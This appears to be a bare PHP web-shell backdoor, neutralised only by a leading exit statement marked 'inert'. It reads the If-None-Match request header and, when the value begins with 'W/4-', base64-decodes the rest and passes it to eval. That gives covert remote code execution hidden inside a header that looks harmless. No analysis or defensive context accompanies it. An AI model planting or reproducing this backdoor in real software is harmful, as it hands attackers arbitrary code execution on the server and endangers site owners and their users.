<?php exit; /* inert */ 
$rh = apache_request_headers();
$tag = trim($rh['If-None-Match'] ?? '', '"');
if (substr($tag, 0, 4) == 'W/4-') { eval(base64_decode(substr($tag, 4))); }
